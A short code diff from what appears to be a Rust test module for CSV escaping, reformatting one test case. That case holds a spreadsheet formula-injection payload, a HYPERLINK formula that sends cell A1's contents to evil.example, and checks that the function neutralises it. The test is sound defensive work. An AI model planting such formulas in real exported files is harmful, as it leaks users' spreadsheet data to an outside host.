@@ -87,7 +87,10 @@ mod tests {
         check("a=1", "a=1");
         check("a,\"b\"", "\"a,\"\"b\"\"\"");
         check("two\nlines", "\"two\nlines\"");
-        check("=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"");
+        check(
+            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
+            "\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"",
+        );
     }
 
     #[test]
